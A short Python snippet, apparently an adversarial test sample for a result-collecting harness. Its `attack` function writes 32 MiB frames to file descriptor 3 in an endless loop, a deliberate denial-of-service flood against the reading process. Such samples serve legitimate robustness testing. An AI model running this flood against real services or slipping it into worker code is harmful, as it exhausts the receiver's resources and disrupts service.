"""Writes results without an end."""

import os
import struct


def attack(target):
    frame = struct.pack("<II", 2, 32 << 20) + b"{}" + bytes(32 << 20)
    while True:
        os.write(3, frame)
